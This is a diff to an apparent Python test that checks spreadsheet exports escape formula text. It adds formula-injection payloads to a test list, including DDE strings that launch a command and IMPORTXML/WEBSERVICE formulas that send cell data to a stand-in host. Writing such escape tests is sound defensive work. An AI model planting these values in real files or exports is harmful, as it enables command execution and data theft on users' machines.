@@ -36,6 +36,15 @@ PAYLOADS = [
     "\r=1+1",
     "\n=1+1",
     '=1,"=2',
+    "=cmd|' /C calc'!A0",
+    "@=1+1",
+    "%1",
+    "+A1",
+    "-A1",
+    "\r\n=1+1",
+    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
+    '=DDE("cmd";"/C calc";"a")',
+    '=WEBSERVICE("http://x.example")',
 ]
 
 
@@ -104,7 +113,7 @@ def test_no_text_becomes_a_formula(payload: str) -> None:
     assert kinds == [["s", "s"], ["s", "n"]]
     csv = pd.read_csv(io.BytesIO(sheets.as_csv(frame, CAPTION, EDITION)), comment="#")
     assert csv.columns[0].startswith("'")
-    assert csv.iloc[0, 0] == f"'{payload}".replace("\r\n", "\n")
+    assert csv.iloc[0, 0] == f"'{payload}"
     assert csv.iloc[0, 1] == -3
     assert json.loads(sheets.as_json(frame, CAPTION, EDITION))["filas"][0][payload] == payload
 
